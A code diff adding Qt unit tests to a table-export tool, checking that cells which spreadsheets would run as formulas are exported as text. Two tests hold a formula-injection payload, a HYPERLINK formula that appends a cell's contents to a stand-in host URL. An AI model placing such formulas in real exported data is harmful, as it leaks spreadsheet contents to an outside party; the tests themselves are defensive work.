@@ -523,6 +523,54 @@ private slots:
             "сохранена\"\r"));
     }
 
+    // A text a spreadsheet would run as a formula stays text; numbers stay numbers.
+    void spreadsheet_cells_never_run_data() {
+        QTest::addColumn<QString>("cell");
+        QTest::addColumn<QString>("exported");
+        const QString link = R"(=HYPERLINK("http://x.example/?"&A1,"клик"))";
+        QTest::newRow("formula") << link << "'" + link;
+        QTest::newRow("plus") << "+1+1"
+                              << "'+1+1";
+        QTest::newRow("minus") << "-2+3"
+                               << "'-2+3";
+        QTest::newRow("at") << "@SUM(A1)"
+                            << "'@SUM(A1)";
+        QTest::newRow("tab") << "\t=1"
+                             << "'\t=1";
+        QTest::newRow("carriage return") << "\r=1"
+                                         << "'\r=1";
+        QTest::newRow("negative number") << "-12,5"
+                                         << "-12,5";
+        QTest::newRow("signed distance") << "+0,0571"
+                                         << "+0,0571";
+        QTest::newRow("exponent") << "-1,5E-5"
+                                  << "-1,5E-5";
+        QTest::newRow("point") << "-3.25"
+                               << "-3.25";
+        QTest::newRow("text in the middle") << "Fz = 160"
+                                            << "Fz = 160";
+        QTest::newRow("lone minus") << "-"
+                                    << "'-";
+        QTest::newRow("empty") << ""
+                               << "";
+    }
+    void spreadsheet_cells_never_run() {
+        QFETCH(QString, cell);
+        QTEST(spreadsheetCell(cell), "exported");
+    }
+
+    // A pair from a file whose Z1 is a formula: the export and the copy carry
+    // it as text.
+    void formula_from_a_file_is_exported_as_text() {
+        const QString link = R"(=HYPERLINK("http://x.example/?"&A1,"клик"))";
+        const TrainTables t =
+            trainTables(buildTrain({{link, "20", "42", "0"}}, false, 1), {Unit::Hertz, 1});
+        const QList<QByteArray> lines = trainCsv(t).split('\n');
+        QVERIFY2(lines[1].startsWith("1;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,"),
+                 lines[1].constData());
+        QVERIFY(trainTabText(t).split('\n')[1].startsWith("1\t'=HYPERLINK(\"http"));
+    }
+
     void tab_text_for_the_clipboard() {
         const TrainTables t =
             trainTables(buildTrain({{"8", "20", "42", "0"}}, false, 1000), {Unit::PerMinute, 1});
